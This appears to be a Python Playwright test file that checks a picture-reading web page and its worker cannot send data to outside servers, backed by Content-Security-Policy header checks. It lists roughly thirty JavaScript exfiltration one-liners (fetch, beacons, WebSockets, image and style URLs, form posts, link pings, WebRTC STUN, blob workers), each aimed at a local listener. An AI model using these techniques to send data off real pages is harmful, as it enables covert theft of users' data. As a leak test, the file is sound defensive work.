"""Ways to get a picture out of the page that holds it, each tried against listening servers.

The browser's word is not taken for it: `sendBeacon` answers true although it was blocked. What
counts is what arrives. The scripts stand for a page of ours that lies, or was made to.
"""

import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as BrowserError

from tests.journeys.page_stand import Stand, page_stand
from unspread.clearinghouse.pages.policy import headers_for

pytestmark = pytest.mark.journey

WAYS = {
    "fetch": "fetch(url, { method: 'POST', body: 'pixels', mode: 'no-cors' })",
    "fetch keepalive": "fetch(url, { method: 'POST', body: 'pixels', keepalive: true })",
    "XMLHttpRequest": (
        "(() => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('pixels'); })()"
    ),
    "beacon": "navigator.sendBeacon(url, 'pixels')",
    "WebSocket": "new WebSocket(url.replace('http', 'ws'))",
    "EventSource": "new EventSource(url)",
    "WebTransport": "new WebTransport(url.replace('http:', 'https:'))",
    "image": "{ new Image().src = url }",
    "image in a set": "{ const i = new Image(); i.srcset = url + ' 1x'; document.body.append(i) }",
    "style sheet": (
        "{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url;"
        " document.head.append(l) }"
    ),
    "style attribute": "document.body.style.backgroundImage = `url(${url})`",
    "font": "new FontFace('f', `url(${url})`).load()",
    "script": (
        "{ const s = document.createElement('script'); s.setAttribute('src', url);"
        " document.head.append(s) }"
    ),
    "import": "import(url)",
    "frame": (
        "{ const f = document.createElement('iframe'); f.src = url; document.body.append(f) }"
    ),
    "prefetch": (
        "{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url;"
        " document.head.append(l) }"
    ),
    "preconnect": (
        "{ const l = document.createElement('link'); l.rel = 'preconnect'; l.href = url;"
        " document.head.append(l) }"
    ),
    "audio": "{ new Audio(url).play() }",
    "object": (
        "{ const o = document.createElement('object'); o.data = url; document.body.append(o) }"
    ),
    "form": (
        "{ const f = document.createElement('form'); f.method = 'POST'; f.action = url;"
        " document.body.append(f); f.submit() }"
    ),
    "ping of a link": (
        "{ const a = document.createElement('a'); a.href = '#x'; a.ping = url;"
        " document.body.append(a); a.click() }"
    ),
    "link": "{ const a = document.createElement('a'); a.href = url; a.click() }",
    "new window": "window.open(url)",
    "navigation": "location.href = url",
    "refresh": (
        "{ const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
        " m.content = '0;url=' + url; document.head.append(m) }"
    ),
    "WebRTC": (
        "(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] });"
        " c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()) })()"
    ),
    "worker from a blob": (
        "new Worker(URL.createObjectURL(new Blob([`fetch('${url}', { mode: 'no-cors' })`])))"
    ),
    "service worker": "navigator.serviceWorker.register(url)",
}

WORKER_WAYS = {
    name: WAYS[name]
    for name in ("fetch", "fetch keepalive", "XMLHttpRequest", "WebSocket", "EventSource", "import")
} | {"importScripts": "importScripts(url)"}

OPEN_TO_OURSELVES = {
    "image": "{ new Image().src = own + 'image' }",
    "module": "import(own + 'module')",
    "navigation": "location.href = own + 'navigation'",
}
"""What stays open, to our own server alone: a page must load its own parts. The visible text, the
airplane mode and `unspread verify-site` stand against it; the page "How do I know?" says so."""


@dataclass
class Listener:
    """A foreign server for HTTP, and one for STUN, and what arrived at them."""

    url: str = ""
    stun: str = ""
    arrived: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def foreign() -> Iterator[Listener]:
    listener = Listener()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            listener.arrived.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_args: object) -> None:
            """Says nothing."""

    for method in ("POST", "OPTIONS", "HEAD"):
        setattr(Handler, f"do_{method}", Handler.do_GET)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener.url = f"http://127.0.0.1:{server.server_port}/"
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    listener.stun = f"stun:127.0.0.1:{udp.getsockname()[1]}"

    def receive() -> None:
        while udp.recv(2048) != b"end":
            listener.arrived.append("/WebRTC")

    threads = [
        threading.Thread(target=server.serve_forever, daemon=True),
        threading.Thread(target=receive, daemon=True),
    ]
    for thread in threads:
        thread.start()
    yield listener
    server.shutdown()
    server.server_close()
    udp.sendto(b"end", udp.getsockname())
    threads[1].join(10)
    udp.close()


@pytest.fixture(scope="module")
def stand(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stand]:
    with page_stand(tmp_path_factory.mktemp("pages")) as stand:
        yield stand


@pytest.fixture(scope="module")
def pages(chromium: Browser, stand: Stand) -> Iterator[list[Page]]:
    """One page for all ways that leave it where it is; opening one is most of a test's time."""
    kept: list[Page] = []
    yield kept
    for page in kept:
        page.close()


@pytest.fixture
def page(chromium: Browser, stand: Stand, pages: list[Page]) -> Page:
    address = f"{stand.url}/en/begin"
    if pages and not (pages[-1].url == address and pages[-1].workers):
        pages.pop().close()
    if not pages:
        page = chromium.new_page()
        with page.expect_worker():
            page.goto(address)
        pages.append(page)
    return pages[-1]


SETTLE = "new Promise((resolve) => setTimeout(resolve, 200))"
"""A blocked attempt leaves no event to wait for."""


def attempt(way: str, name: str, foreign: Listener, *, own: str = "") -> str:
    values = f"const url = '{foreign.url}{name.replace(' ', '-')}', stun = '{foreign.stun}';"
    return (
        f"async () => {{ {values} const own = '{own}'; try {{ {way} }} catch {{}} await {SETTLE} }}"
    )


@pytest.mark.parametrize("name", WAYS)
def test_the_page_that_reads_pictures_reaches_no_other_server(
    page: Page, foreign: Listener, name: str
) -> None:
    foreign.arrived.clear()
    try:
        page.evaluate(attempt(WAYS[name], name, foreign))
    except BrowserError:
        # A navigation takes the page, and this evaluation, with it: to the browser's own error.
        page.wait_for_load_state()
    assert foreign.arrived == []


@pytest.mark.parametrize("name", WORKER_WAYS)
def test_the_worker_that_reads_pictures_reaches_no_other_server(
    page: Page, foreign: Listener, name: str
) -> None:
    foreign.arrived.clear()
    (worker,) = page.workers
    assert worker.url.endswith("/page/fingerprint/worker.js")
    worker.evaluate(attempt(WORKER_WAYS[name], name, foreign))
    assert foreign.arrived == []


@pytest.mark.parametrize("name", OPEN_TO_OURSELVES)
def test_what_stays_open_reaches_our_own_server_alone(
    page: Page, stand: Stand, foreign: Listener, name: str
) -> None:
    foreign.arrived.clear()
    stand.requests.clear()
    own = f"{stand.url}/page/leak?"
    try:
        page.evaluate(attempt(OPEN_TO_OURSELVES[name], name, foreign, own=own))
    except BrowserError:
        page.wait_for_load_state()
    assert any(path == f"/page/leak?{name}" for _, path, _ in stand.requests)
    assert foreign.arrived == []


def test_the_listeners_hear_what_an_open_page_sends(
    chromium: Browser, stand: Stand, foreign: Listener
) -> None:
    foreign.arrived.clear()
    page = chromium.new_page()
    page.goto(foreign.url)
    for name in ("fetch", "image", "WebRTC"):
        page.evaluate(attempt(WAYS[name], name, foreign))
    assert {"/fetch", "/image", "/WebRTC"} <= set(foreign.arrived)
    page.close()


@pytest.mark.parametrize(
    "path",
    ["/", "/en/", "/en/begin", "/en/status", "/v1/cases", "/page/ui/begin.js", "/anything/else"],
)
def test_every_response_carries_a_policy_that_begins_with_none(stand: Stand, path: str) -> None:
    headers = headers_for(path)
    assert headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert "unsafe-inline" not in headers["Content-Security-Policy"]
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["Cache-Control"] == "no-store"
